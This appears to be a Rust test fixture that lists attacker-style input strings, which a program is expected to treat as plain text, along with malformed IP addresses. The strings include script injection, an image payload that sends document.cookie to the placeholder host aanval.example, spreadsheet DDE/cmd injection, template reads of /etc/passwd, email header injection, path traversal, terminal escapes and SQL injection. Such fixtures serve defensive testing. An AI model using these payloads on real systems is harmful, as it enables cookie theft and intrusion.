//! Texts as attackers write them: they must come out as text, everywhere.

/// Goes into banners, products, versions and names of rows that end in letters.
pub fn texts() -> Vec<String> {
    vec![
        "<script>alert(document.domain)</script>".into(),
        "\"><img src=x onerror=fetch('https://aanval.example/'+document.cookie)>".into(),
        "=HYPERLINK(\"https://aanval.example\",\"Klik hier\")".into(),
        "@SUM(1+1)*cmd|' /C calc'!A0".into(),
        "+31 85 000 0000;DDE".into(),
        "{{ config }} {% include \"/etc/passwd\" %}".into(),
        "#import \"@preview/aanval:1.0.0\": * #read(\"/etc/passwd\") $x^2$".into(),
        "veilig\u{202e}gpj.exe\u{202c}\u{2066}\u{200b}\u{feff}".into(),
        "Exchange\r\nBcc: iedereen@aanval.example\r\n\r\nHallo".into(),
        "Bel 0900-AANVAL voor hulp of ga naar https://aanval.example/herstel".into(),
        "../../../../etc/passwd\u{0}.txt".into(),
        "\u{1b}[2J\u{1b}]0;overgenomen\u{7}".into(),
        "x".repeat(3_000),
        "Z\u{0351}\u{036b}\u{0343}\u{036a}\u{0302}a\u{0363}\u{034b}l\u{0310}\u{0367}g\u{0306}o\u{0352}".into(),
        "'; DROP TABLE companies; --".into(),
        "日本語 العربية \u{1f4a5}".into(),
    ]
}

/// Addresses as they should not be written.
pub const BAD_ADDRESSES: [&str; 6] = [
    "999.1.1.1",
    "240.1.2",
    "0xf0.1.2.3",
    "240.01.02.03",
    "[3fff::1]",
    "3fff::1%eth0",
];
